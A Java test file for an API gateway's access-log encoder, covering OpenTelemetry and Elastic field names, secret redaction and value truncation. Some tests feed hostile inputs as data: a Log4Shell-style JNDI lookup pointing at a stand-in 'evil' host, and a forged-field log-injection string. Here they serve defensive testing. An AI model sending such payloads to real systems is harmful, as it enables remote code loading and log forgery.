package dev.sallyport.extension.observe.log;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.entry;

import dev.sallyport.api.exchange.ClientConnection;
import dev.sallyport.api.exchange.Exchange;
import dev.sallyport.api.exchange.Exchanges;
import dev.sallyport.api.exchange.Failure;
import dev.sallyport.api.exchange.Refusal;
import dev.sallyport.api.exchange.Standings;
import dev.sallyport.api.exchange.TraceContext;
import dev.sallyport.api.http.Headers;
import dev.sallyport.api.http.HttpVersion;
import dev.sallyport.api.http.Method;
import dev.sallyport.api.http.RequestFault;
import dev.sallyport.api.http.ResponseHead;
import dev.sallyport.api.identity.Claims;
import dev.sallyport.api.identity.Credential;
import dev.sallyport.api.identity.Principal;
import dev.sallyport.api.json.JsonPaths;
import dev.sallyport.extension.observe.log.AccessLogSettings.Format;
import dev.sallyport.telemetry.Json;
import dev.sallyport.telemetry.JsonLine;
import dev.sallyport.telemetry.LogField;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

class LineEncoderTest {
    private static final List<String> HEADERS = List.of(
            "Accept",
            "Referer",
            "Authorization",
            "Cookie",
            "Set-Cookie",
            "X-Api-Key",
            "Proxy-Authorization",
            "X-Twice");

    private static AccessLogSettings settings(Format format) {
        return new AccessLogSettings(format, HEADERS, List.of(), List.of(), 16);
    }

    private static byte[] bytes(Format format, Exchange exchange) {
        JsonLine line = new JsonLine(16);
        new LineEncoder(settings(format)).encode(exchange, line);
        return Arrays.copyOf(line.bytes(), line.length());
    }

    private static Map<String, Object> encoded(Format format, Exchange exchange) {
        List<Map<String, Object>> lines = Json.lines(bytes(format, exchange));
        assertThat(lines).hasSize(1);
        return lines.getFirst();
    }

    private static final Principal CALLER = new Principal(
            "alice",
            "employees",
            null,
            Set.of(),
            Claims.NONE,
            new Credential("jwt", "https://id.test", "token-7", null, "key-1", 0, Credential.NEVER));

    private static Exchange forwarded() {
        ClientConnection connection = new ClientConnection(
                new InetSocketAddress(Exchanges.address("2001:db8::7"), 4711), "public", "TLSv1.3", null);
        Exchange exchange = Exchanges.request()
                .method(Method.POST)
                .connection(connection)
                .authority("api.example.com", 8443)
                .version(HttpVersion.HTTP_2)
                .path("/orders/17")
                .query("page=2&token=abc")
                .trace(new TraceContext(0xaL, 0xbL, 0xcL, 0, true))
                .header("User-Agent", "curl/8.9")
                .header("Accept", "*/*")
                .exchange();
        exchange.configVersion("v7");
        exchange.routed("change-order", "/orders/{id}", new String[] {"id", "17"});
        exchange.admitted("staff", CALLER);
        exchange.attempted("orders", "127.0.0.1:9001", 0);
        exchange.attempted("orders", "127.0.0.1:9002", 0);
        exchange.forwardedAt(Exchanges.STARTED_AT + 120_000);
        exchange.connectedAt(Exchanges.STARTED_AT + 620_000);
        exchange.responded(201, Exchanges.STARTED_AT + 2_120_000);
        exchange.standings(new Limits());
        exchange.status(201);
        exchange.addRequestBytes(12);
        exchange.addResponseBytes(345);
        exchange.endedAt(Exchanges.STARTED_AT + 2_345_678);
        return exchange;
    }

    /// One that has 96 of 100 left, and one that nobody can tell of.
    private static final class Limits implements Standings {
        @Override
        public int size() {
            return 2;
        }

        @Override
        public String name(int part) {
            return part == 0 ? "per-caller" : "unsure-day";
        }

        @Override
        public long most(int part) {
            return part == 0 ? 100 : 1000;
        }

        @Override
        public long remaining(int part) {
            return part == 0 ? 96 : -1;
        }
    }

    @Test
    void saysEverythingInOpenTelemetryNames() {
        assertThat(encoded(Format.OTEL, forwarded()))
                .containsExactly(
                        entry("timestamp", "2026-11-25T04:00:00.007Z"),
                        entry("severity", "INFO"),
                        entry("client.address", "2001:db8:0:0:0:0:0:7"),
                        entry("client.port", 4711L),
                        entry("gateway.client.network", "2001:db8::/48"),
                        entry("network.protocol.version", "2"),
                        entry("tls.protocol.version", "1.3"),
                        entry("http.request.method", "POST"),
                        entry("url.scheme", "https"),
                        entry("server.address", "api.example.com"),
                        entry("server.port", 8443L),
                        entry("url.path", "/orders/17"),
                        entry("url.query", "page=2&token=[redacted]"),
                        entry("http.route", "/orders/{id}"),
                        entry("http.response.status_code", 201L),
                        entry("http.request.body.size", 12L),
                        entry("http.response.body.size", 345L),
                        entry("user_agent.original", "curl/8.9"),
                        entry("trace_id", "000000000000000a000000000000000b"),
                        entry("span_id", "000000000000000c"),
                        entry("http.request.id", "0123456789abcdeffedcba9876543210"),
                        entry("gateway.duration_ms", 2.345),
                        entry("gateway.listener", "public"),
                        entry("gateway.route", "change-order"),
                        entry("gateway.decision", "allowed"),
                        entry("gateway.rule", "staff"),
                        entry(
                                "gateway.limits",
                                List.of(
                                        Map.of("limit", "per-caller", "remaining", 96L, "of", 100L),
                                        Map.of("limit", "unsure-day", "of", 1000L))),
                        entry("user.id", "alice"),
                        entry("gateway.authenticator", "employees"),
                        entry("gateway.credential.id", "token-7"),
                        entry("gateway.upstream", "orders"),
                        entry("gateway.upstream.address", "127.0.0.1:9002"),
                        entry("gateway.attempts", 2L),
                        entry("gateway.upstream.status", 201L),
                        entry("gateway.overhead_ms", 0.12),
                        entry("gateway.upstream.duration_ms", 2.0),
                        entry("gateway.upstream.connect_ms", 0.5),
                        entry("gateway.upstream.wait_ms", 1.5),
                        entry("gateway.transfer_ms", 0.225),
                        entry("gateway.config", "v7"),
                        entry("http.request.header.accept", List.of("*/*")));
    }

    @Test
    void saysTheSameInElasticNames() {
        Map<String, Object> line = encoded(Format.ECS, forwarded());
        assertThat(line)
                .contains(
                        entry("@timestamp", "2026-11-25T04:00:00.007Z"),
                        entry("log.level", "INFO"),
                        entry("source.ip", "2001:db8:0:0:0:0:0:7"),
                        entry("source.port", 4711L),
                        entry("url.domain", "api.example.com"),
                        entry("url.path", "/orders/17"),
                        entry("http.request.method", "POST"),
                        entry("http.response.status_code", 201L),
                        entry("http.response.body.bytes", 345L),
                        entry("event.duration", 2_345_678L),
                        entry("event.outcome", "success"),
                        entry("event.kind", "event"),
                        entry("event.category", List.of("web")),
                        entry("trace.id", "000000000000000a000000000000000b"),
                        entry("user.id", "alice"),
                        entry("gateway.authenticator", "employees"),
                        entry("gateway.credential.id", "token-7"),
                        entry("gateway.decision", "allowed"));
        assertThat(line).containsKey("ecs.version");
    }

    @ParameterizedTest
    @EnumSource(Format.class)
    void writesOnlyNamesOfLogFields(Format format) {
        Set<String> known = Arrays.stream(LogField.values())
                .map(field -> format == Format.ECS ? field.ecs() : field.otel())
                .collect(Collectors.toSet());
        Set<String> constants = Set.of("ecs.version", "event.kind", "event.category");
        assertThat(encoded(format, forwarded()).keySet())
                .allMatch(name -> known.contains(name)
                        || name.startsWith("http.request.header.")
                        || (format == Format.ECS && constants.contains(name)));
    }

    @Test
    void namesTheReasonOfARefusal() {
        Exchange exchange = Exchanges.request().ended("admin", "/admin", 403);
        exchange.refused(Refusal.of(403, "role-missing", "Forbidden", "The caller lacks a role."));
        assertThat(encoded(Format.OTEL, exchange))
                .contains(
                        entry("severity", "WARN"),
                        entry("gateway.decision", "refused"),
                        entry("gateway.reason", "role-missing"),
                        entry("gateway.overhead_ms", 1.5))
                .doesNotContainKeys("error.type", "gateway.upstream", "gateway.upstream.duration_ms");
        assertThat(encoded(Format.ECS, exchange)).containsEntry("event.outcome", "failure");
    }

    @Test
    void aRefusalStaysOneWhenTheClientLeaves() {
        Exchange exchange = Exchanges.request().ended("admin", "/admin", 403);
        exchange.refused(Refusal.of(403, "role-missing", "Forbidden", "The caller lacks a role."));
        exchange.failed(Failure.CLIENT_CLOSED);
        assertThat(encoded(Format.OTEL, exchange))
                .contains(entry("gateway.decision", "refused"), entry("gateway.reason", "role-missing"));
    }

    @Test
    void namesTheReasonOfAFailure() {
        Exchange exchange = forwarded();
        exchange.failed(Failure.RESPONSE_HEAD_TIMEOUT);
        exchange.refused(Refusal.of(504, "upstream-response-timeout", "Gateway Timeout", "Too late."));
        exchange.status(504);
        assertThat(encoded(Format.OTEL, exchange))
                .contains(
                        entry("severity", "ERROR"),
                        entry("gateway.decision", "failed"),
                        entry("gateway.reason", "upstream-response-timeout"),
                        entry("error.type", "upstream-response-timeout"));
    }

    @Test
    void aClientThatLeavesIsNoErrorOfOurs() {
        Exchange exchange = Exchanges.request().exchange();
        exchange.failed(Failure.CLIENT_CLOSED);
        exchange.endedAt(Exchanges.STARTED_AT + 1);
        assertThat(encoded(Format.OTEL, exchange))
                .contains(entry("severity", "WARN"), entry("gateway.decision", "failed"))
                .doesNotContainKey("http.response.status_code");
    }

    @Test
    void anErrorOfTheUpstreamIsNamedByItsStatus() {
        assertThat(encoded(Format.OTEL, Exchanges.request().ended("r", "/", 503)))
                .contains(entry("severity", "ERROR"), entry("error.type", "503"), entry("gateway.decision", "allowed"));
    }

    @Test
    void tellsTheClientFromTheTrustedProxy() {
        Exchange exchange =
                Exchanges.request().client(Exchanges.address("198.51.100.9")).ended("r", "/", 200);
        assertThat(encoded(Format.OTEL, exchange))
                .contains(entry("client.address", "198.51.100.9"), entry("network.peer.address", "192.0.2.7"))
                .doesNotContainKey("client.port");
    }

    @ParameterizedTest
    @EnumSource(Format.class)
    void malformedRequestHasALineToo(Format format) {
        JsonLine line = new JsonLine(16);
        new LineEncoder(settings(format))
                .encode(
                        new AccessLog.Malformed(
                                Exchanges.connection("public"),
                                RequestFault.FRAMING,
                                Exchanges.STARTED_AT_EPOCH_MILLIS),
                        line);
        assertThat(Json.lines(Arrays.copyOf(line.bytes(), line.length())).getFirst())
                .contains(
                        entry(format == Format.ECS ? "source.ip" : "client.address", "192.0.2.7"),
                        entry("http.response.status_code", 400L),
                        entry("gateway.listener", "public"),
                        entry("gateway.decision", "malformed"),
                        entry("gateway.reason", "framing-invalid"));
    }

    @Test
    void secondsAreRememberedRightly() {
        LineEncoder encoder = new LineEncoder(settings(Format.OTEL));
        JsonLine line = new JsonLine(16);
        for (long millis : new long[] {0, 999, 1000, 1_795_579_200_007L, 1_795_579_200_999L, 1_795_579_201_000L, 5}) {
            encoder.encode(new AccessLog.Malformed(Exchanges.connection("l"), RequestFault.PATH, millis), line);
        }
        assertThat(Json.lines(Arrays.copyOf(line.bytes(), line.length())))
                .extracting(one -> one.get("timestamp"))
                .containsExactly(
                        "1970-01-01T00:00:00.000Z",
                        "1970-01-01T00:00:00.999Z",
                        "1970-01-01T00:00:01.000Z",
                        "2026-11-25T04:00:00.007Z",
                        "2026-11-25T04:00:00.999Z",
                        "2026-11-25T04:00:01.000Z",
                        "1970-01-01T00:00:00.005Z");
    }

    @Property(tries = 2000)
    void LG_01_anyOctetsGiveOneLineOfValidJson(
            @ForAll byte[] agent, @ForAll byte[] path, @ForAll byte[] query, @ForAll String route) {
        Exchange exchange = Exchanges.request()
                .path(new String(path, StandardCharsets.ISO_8859_1))
                .query(new String(query, StandardCharsets.ISO_8859_1))
                .header("User-Agent", new String(agent, StandardCharsets.ISO_8859_1))
                .header("Accept", new String(agent, StandardCharsets.ISO_8859_1))
                .authority(route, -1)
                .ended(route, route, 200);
        for (Format format : Format.values()) {
            byte[] line = bytes(format, exchange);
            assertThat(line[line.length - 1]).isEqualTo((byte) '\n');
            assertThat(Arrays.copyOf(line, line.length - 1)).doesNotContain('\n', '\r', 0x1b, 0);
            assertThat(Json.lines(line)).hasSize(1);
        }
    }

    @Test
    void LG_01_forgedFieldsStayInsideTheirString() {
        String forged = "x\",\"gateway.decision\":\"allowed\"}\n{\"severity\":\"INFO\u001b[2K\u2028";
        Exchange exchange = Exchanges.request()
                .path("/" + forged)
                .header("User-Agent", forged)
                .ended("r", "/", 403);
        exchange.refused(Refusal.of(403, "no", "No", "No."));
        assertThat(encoded(Format.OTEL, exchange)).containsEntry("gateway.decision", "refused");
    }

    @Test
    void LG_03_parametersAreNeverInterpreted() {
        String hostile = "${jndi:ldap://evil/x}%n%s{}";
        Exchange exchange = Exchanges.request().header("User-Agent", hostile).ended("r", "/", 200);
        assertThat(encoded(Format.OTEL, exchange)).containsEntry("user_agent.original", hostile);
    }

    @Test
    void LG_04_longValuesAreCutWithAMarker() {
        String agent = "é".repeat(4000);
        Exchange exchange = Exchanges.request()
                .path("/" + "p".repeat(8000))
                .query("a=" + "q".repeat(8000))
                .header("User-Agent", new String(agent.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1))
                .ended("r", "/", 200);
        Map<String, Object> line = encoded(Format.OTEL, exchange);
        assertThat((String) line.get("url.path")).isEqualTo("/" + "p".repeat(1023) + "[truncated 6977]");
        assertThat((String) line.get("url.query")).isEqualTo("a=" + "q".repeat(1022) + "[truncated 6978]");
        assertThat((String) line.get("user_agent.original")).isEqualTo("é".repeat(512) + "[truncated 6976]");
        assertThat(bytes(Format.OTEL, exchange).length).isLessThan(4500);
    }

    @Test
    void LG_04_aCutCharacterIsNotTakenForADefect() {
        String agent = "a" + "é".repeat(4000);
        Exchange exchange = Exchanges.request()
                .header("User-Agent", new String(agent.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1))
                .ended("r", "/", 200);
        assertThat((String) encoded(Format.OTEL, exchange).get("user_agent.original"))
                .isEqualTo("a" + "é".repeat(511) + "[truncated 6978]");
    }

    @ParameterizedTest
    @EnumSource(Format.class)
    void LG_02_canariesInEverySlotAreNeverWritten(Format format) {
        String canary = "c4n4ry";
        String token = "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJjNG40cnkifQ.c4n4ry" + "x".repeat(40);
        Exchanges request = Exchanges.request()
                .path("/reset/" + token)
                .query("token=" + canary + "&next=%2Fcb%3Fcode%3D" + canary + "&t=" + token + "&password=" + canary)
                .header("User-Agent", "agent " + token)
                .header("Referer", "https://shop/cb?state=" + canary + "&code=" + canary)
                .header("Authorization", "Bearer " + canary)
                .header("Proxy-Authorization", "Basic " + canary)
                .header("Cookie", "session=" + canary)
                .header("Cookie", "other=" + canary)
                .header("Set-Cookie", "session=" + canary)
                .header("X-Api-Key", canary)
                .header("X-Not-Chosen", canary);
        Exchange exchange = request.ended("r", "/reset/{token}", 200);
        exchange.upstreamPath("/reset?token=" + canary);
        exchange.requestEdits().add("Authorization", canary);
        exchange.responseEdits().add("Set-Cookie", canary);
        String line = new String(bytes(format, exchange), StandardCharsets.UTF_8);
        assertThat(line).doesNotContain(canary).doesNotContain("eyJ");
        assertThat(encoded(format, exchange))
                .contains(
                        entry("http.request.header.authorization", List.of("[redacted]")),
                        entry("http.request.header.cookie", List.of("[redacted]")),
                        entry(
                                "http.request.header.referer",
                                List.of("https://shop/cb?state=[redacted]&code=[redacted]")));
    }

    private static Map<String, Object> withResponse(List<String> chosen, Exchange exchange) {
        JsonLine line = new JsonLine(16);
        AccessLogSettings settings = new AccessLogSettings(
                Format.OTEL, List.of(), chosen, List.of("X-Own"), List.of(), JsonPaths.NONE, false, 16);
        new LineEncoder(settings).encode(exchange, line);
        return Json.lines(Arrays.copyOf(line.bytes(), line.length())).getFirst();
    }

    private static Exchange answered(String... fields) {
        Headers.Builder headers = new Headers.Builder();
        for (int i = 0; i < fields.length; i += 2) {
            headers.add(
                    fields[i].getBytes(StandardCharsets.ISO_8859_1),
                    fields[i + 1].getBytes(StandardCharsets.ISO_8859_1));
        }
        Exchange exchange = Exchanges.request().ended("r", "/", 200);
        exchange.responseHead(new ResponseHead(200, headers.build(), HttpVersion.HTTP_1_1));
        return exchange;
    }

    @Test
    void LG_02_chosenResponseHeadersAreThoseTheClientGot() {
        Exchange exchange =
                answered("Set-Cookie", "s=c4n4ry", "Location", "/x?code=c4n4ry", "X-Own", "c4n4ry", "X-Old", "c4n4ry");
        exchange.responseEdits().remove("X-Old").add("X-New", "yes").add("Set-Cookie", "c4n4ry");
        assertThat(withResponse(List.of("set-cookie", "LOCATION", "x-own", "x-old", "x-new", "etag"), exchange))
                .contains(
                        entry("http.response.header.set-cookie", List.of("[redacted]")),
                        entry("http.response.header.location", List.of("/x?code=[redacted]")),
                        entry("http.response.header.x-own", List.of("[redacted]")),
                        entry("http.response.header.x-new", List.of("yes")))
                .doesNotContainKeys("http.response.header.x-old", "http.response.header.etag");
    }

    @Test
    void LG_04_ofOneFieldSoManyValuesAreLogged() {
        String[] fields = new String[40];
        for (int i = 0; i < fields.length; i += 2) {
            fields[i] = "X-Many";
            fields[i + 1] = Integer.toString(i / 2);
        }
        assertThat(withResponse(List.of("x-many"), answered(fields)))
                .containsEntry("http.response.header.x-many", List.of("0", "1", "2", "3", "4", "5", "6", "7"));
    }

    @Test
    void chosenHeadersAreListsOfTheirValues() {
        Exchange exchange = Exchanges.request()
                .header("X-Twice", "a")
                .header("Other", "b")
                .header("x-twice", "c")
                .ended("r", "/", 200);
        assertThat(encoded(Format.OTEL, exchange))
                .containsEntry("http.request.header.x-twice", List.of("a", "c"))
                .doesNotContainKey("http.request.header.accept");
    }
}
